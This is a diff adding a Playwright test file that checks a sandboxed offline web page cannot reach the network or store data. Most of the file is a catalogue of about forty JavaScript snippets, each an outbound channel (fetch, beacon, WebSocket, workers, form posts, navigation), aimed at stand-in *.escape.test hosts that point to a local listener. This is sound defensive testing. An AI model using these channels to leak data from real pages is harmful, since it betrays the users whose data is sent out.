@@ -1,0 +1,227 @@
+"""Nothing leaves: every way out that we know is tried from inside the page, with a listener at its end."""
+
+from __future__ import annotations
+
+import contextlib
+import gzip
+import socket
+import threading
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Browser, Error, Frame, Worker, expect
+from test_page_kit import browser, demo, opened
+
+from sealift.apps import front
+from sealift.apps.page import assemble
+
+# Each is tried with {url}, an address whose every host leads to the listener. They run in the visible frame.
+PAGE_CHANNELS = {
+    "fetch": "fetch('{url}')",
+    "fetch-keepalive": "fetch('{url}', {{method: 'POST', body: 'x', keepalive: true, mode: 'no-cors'}})",
+    "xhr": "(() => {{ const r = new XMLHttpRequest(); r.open('POST', '{url}'); r.send('x') }})()",
+    "websocket": "new WebSocket('{url}'.replace('http', 'ws'))",
+    "eventsource": "new EventSource('{url}')",
+    "beacon": "navigator.sendBeacon('{url}', 'x')",
+    "webtransport": "new WebTransport('{url}'.replace('http:', 'https:')).ready",
+    "image": "new Image().src = '{url}'",
+    "picture": "document.body.insertAdjacentHTML('beforeend', '<picture><source srcset=\"{url}\"><img></picture>')",
+    "svg-image": "document.body.insertAdjacentHTML('beforeend', '<svg><image href=\"{url}\"/><use href=\"{url}#a\"/></svg>')",
+    "background": "document.body.style.backgroundImage = 'url(\"{url}\")'",
+    "font": "new FontFace('x', 'url(\"{url}\")').load()",
+    "audio": "new Audio('{url}').load()",
+    "video": 'document.body.insertAdjacentHTML(\'beforeend\', \'<video src="{url}" poster="{url}p"><track src="{url}t"></video>\')',
+    "script": "document.body.append(Object.assign(document.createElement('script'), {{src: '{url}'}}))",
+    "module": "import('{url}')",
+    "style": "document.head.append(Object.assign(document.createElement('link'), {{rel: 'stylesheet', href: '{url}'}}))",
+    "import-rule": "document.styleSheets[0].insertRule('@import url(\"{url}\")', 0)",
+    "object": "document.body.insertAdjacentHTML('beforeend', '<object data=\"{url}\"></object><embed src=\"{url}e\">')",
+    "manifest": "document.head.append(Object.assign(document.createElement('link'), {{rel: 'manifest', href: '{url}'}}))",
+    "icon": "document.head.append(Object.assign(document.createElement('link'), {{rel: 'icon', href: '{url}'}}))",
+    "preconnect": "document.head.append(Object.assign(document.createElement('link'), {{rel: 'preconnect', href: '{url}'}}))",
+    "dns": "document.head.append(Object.assign(document.createElement('link'), {{rel: 'dns-prefetch', href: '{url}'}}))",
+    "prefetch": "document.head.append(Object.assign(document.createElement('link'), {{rel: 'prefetch', href: '{url}'}}))",
+    "preload": "document.head.append(Object.assign(document.createElement('link'), {{rel: 'preload', as: 'fetch', href: '{url}'}}))",
+    "modulepreload": "document.head.append(Object.assign(document.createElement('link'), {{rel: 'modulepreload', href: '{url}'}}))",
+    "prerender": "document.head.append(Object.assign(document.createElement('script'), {{type: 'speculationrules', "
+    "textContent: JSON.stringify({{prerender: [{{urls: ['{url}']}}]}})}}))",
+    "worker": "new Worker('{url}')",
+    "blob-import": "new Worker(URL.createObjectURL(new Blob([\"importScripts('{url}')\"])))",
+    "shared-worker": "new SharedWorker('{url}')",
+    "service-worker": "navigator.serviceWorker.register('{url}')",
+    "ping": "Object.assign(document.createElement('a'), {{href: '#x', ping: '{url}'}}).click()",
+    "rtc": "new RTCPeerConnection({{iceServers: [{{urls: 'stun:{host}:{port}'}}]}}).createOffer()",
+}
+# These would end the page, so each has one of its own.
+LEAVING = {
+    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {{src: '{url}'}}))",
+    "nested": "document.body.append(Object.assign(document.createElement('iframe'), "
+    "{{srcdoc: '<meta http-equiv=refresh content=\"0;url={url}\"><img src={url}>'}}))",
+    "window": "window.open('{url}')",
+    "link-blank": "Object.assign(document.createElement('a'), {{href: '{url}', target: '_blank'}}).click()",
+    "link-top": "Object.assign(document.createElement('a'), {{href: '{url}', target: '_top'}}).click()",
+    "download": "Object.assign(document.createElement('a'), {{href: '{url}', download: 'x'}}).click()",
+    "form": "(() => {{ const f = document.createElement('form'); f.action = '{url}'; f.method = 'post'; "
+    "document.body.append(f); f.submit() }})()",
+    "form-blank": "(() => {{ const f = document.createElement('form'); f.action = '{url}'; f.target = '_blank'; "
+    "document.body.append(f); f.requestSubmit() }})()",
+    "top": "top.location = '{url}'",
+    "parent": "parent.location.href = '{url}'",
+    "self": "location = '{url}'",
+}
+# Here Chromium connects to the address before it refuses to go there. No request follows, and our code never does it.
+LOOKED_UP = {"frame", "nested", "download", "self"}
+WORKER_CHANNELS = {
+    name: PAGE_CHANNELS[name]
+    for name in ("fetch", "xhr", "websocket", "eventsource", "webtransport", "module", "worker")
+} | {"import-scripts": "importScripts('{url}')"}
+
+
+@dataclass
+class Listener:
+    """Where every host name leads: notes who comes, answers nothing."""
+
+    server: socket.socket
+    heard: list[bytes] = field(default_factory=list)
+
+    @property
+    def port(self) -> int:
+        return int(self.server.getsockname()[1])
+
+    def run(self) -> None:
+        while True:
+            try:
+                connection, _ = self.server.accept()
+            except OSError:
+                return
+            with connection:
+                connection.settimeout(0.5)
+                try:
+                    self.heard.append(connection.recv(4096))
+                except OSError:
+                    self.heard.append(b"(silent)")
+
+
+@pytest.fixture(scope="module", name="listener")
+def _listener() -> Iterator[Listener]:
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        found = Listener(server)
+        thread = threading.Thread(target=found.run)
+        thread.start()
+        yield found
+        server.shutdown(socket.SHUT_RDWR)
+        thread.join()
+
+
+@pytest.fixture(scope="module", name="chromium")
+def _chromium(listener: Listener) -> Iterator[Browser]:
+    rule = f"--host-resolver-rules=MAP *.escape.test 127.0.0.1:{listener.port}"
+    with browser(rule) as launched:
+        yield launched
+
+
+def test_the_listener_hears_what_a_page_without_our_policy_sends(chromium: Browser, listener: Listener) -> None:
+    page = chromium.new_page()
+    page.evaluate("fetch('http://control.escape.test/', {mode: 'no-cors'}).catch(() => 0)")
+    page.wait_for_timeout(300)
+    page.close()
+    assert any(b"control.escape.test" in text for text in listener.heard)
+
+
+def test_opening_and_using_the_page_asks_for_nothing(chromium: Browser) -> None:
+    with opened(chromium, demo().page.path) as app:
+        app.inside.get_by_role("button", name="Fill with an example").click()
+        expect(app.prediction).to_have_attribute("data-state", "ready")
+        for tab in ("File", "Verify", "About"):
+            app.tab(tab)
+        assert app.requests[0] == demo().page.path.as_uri()
+        assert app.outside_requests() == []
+        assert len([url for url in app.requests[1:] if url.startswith("blob:")]) == 1  # the worker, made in memory
+
+
+def test_no_way_out_is_open(chromium: Browser, listener: Listener) -> None:
+    listener.heard.clear()
+    with opened(chromium, demo().page.path) as app:
+        outer, inner = app.page.frames[0], app.page.frames[1]
+        for place, channels, where in (
+            ("worker", WORKER_CHANNELS, app.page.workers[0]),
+            ("outer", PAGE_CHANNELS, outer),
+            ("inner", PAGE_CHANNELS, inner),
+        ):
+            for name, code in channels.items():
+                for scheme in ("http", "https"):
+                    _run(where, _code(code, f"{scheme}://{name}-{place}.escape.test/", listener))
+        app.page.wait_for_timeout(1000)
+        assert listener.heard == []  # not even a connection
+        expect(app.prediction).to_be_visible()
+
+
+@pytest.mark.parametrize("name", LEAVING)
+def test_the_inside_cannot_leave(chromium: Browser, listener: Listener, empty_page: Path, name: str) -> None:
+    for scheme in ("http", "https"):
+        listener.heard.clear()
+        with opened(chromium, empty_page, wait=False) as app:
+            app.page.wait_for_selector("html.open")
+            _run(app.page.frames[1], _code(LEAVING[name], f"{scheme}://{name}.escape.test/", listener))
+            app.page.wait_for_timeout(250)
+            assert app.page.url == empty_page.as_uri()
+            assert len(app.page.context.pages) == 1
+        if name in LOOKED_UP:
+            assert not any(b"HTTP/" in text for text in listener.heard)
+        else:
+            assert listener.heard == []
+
+
+@pytest.fixture(scope="module", name="empty_page")
+def _empty_page(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The same shell, policy and sandbox around an inside that does nothing, because eleven whole pages take long."""
+    built = front.load()
+    ready = b"parent.postMessage({type: 'ready'}, '*')"
+    files = {**built.files, "ui.js": ready, "worker.js": b"", "ort.wasm.gz": gzip.compress(b"", mtime=0)}
+    path = tmp_path_factory.mktemp("page") / "empty.html"
+    path.write_bytes(assemble(front.Front(files, built.versions), b"-", title="Empty", identity="-"))
+    return path
+
+
+def _code(template: str, url: str, listener: Listener) -> str:
+    return template.format(url=url, host=url.split("/")[2], port=listener.port)
+
+
+def _run(where: Frame | Worker, code: str) -> None:
+    # The attempt that succeeds in leaving, or is refused by showing an error page, takes its context with it.
+    with contextlib.suppress(Error):
+        where.evaluate(
+            f"() => {{ try {{ Promise.resolve({code}).then(() => 0, () => 0) }} catch (error) {{ return String(error) }} }}"
+        )
+
+
+def test_the_page_tells_what_it_tried(chromium: Browser) -> None:
+    with opened(chromium, demo().page.path) as app:
+        app.tab("Verify")
+        app.inside.get_by_role("button", name="Verify again").click()
+        summary = app.inside.get_by_test_id("network-summary")
+        expect(summary).to_contain_text("ways refused", timeout=30_000)
+        assert "not known" not in summary.inner_text()
+        count = app.inside.get_by_test_id("network-attempts").locator("li").count()
+        assert summary.inner_text() == f"{count} of {count} ways refused"
+        assert count >= 20
+        examples = app.inside.get_by_test_id("verify-summary").inner_text()
+        matching, _, total, *_ = examples.split()
+        assert matching == total
+        assert int(total) > 0
+        expect(app.inside.get_by_test_id("identity")).to_have_text(demo().page.identity)
+
+
+def test_nothing_is_kept(chromium: Browser) -> None:
+    with opened(chromium, demo().page.path) as app:
+        inner = app.page.frames[1]
+        for store in ("localStorage", "sessionStorage", "document.cookie", "indexedDB.open('x')", "caches.open('x')"):
+            refused = inner.evaluate(
+                f"async () => {{ try {{ const s = {store}; if (s && s.onerror !== undefined) await new Promise((y, n) => "
+                "{ s.onsuccess = y; s.onerror = n }); else await s; return false } catch { return true } }"
+            )
+            assert refused, store
+        assert inner.evaluate("typeof RTCPeerConnection") == "undefined"
+        assert app.page.evaluate("typeof RTCPeerConnection") == "undefined"
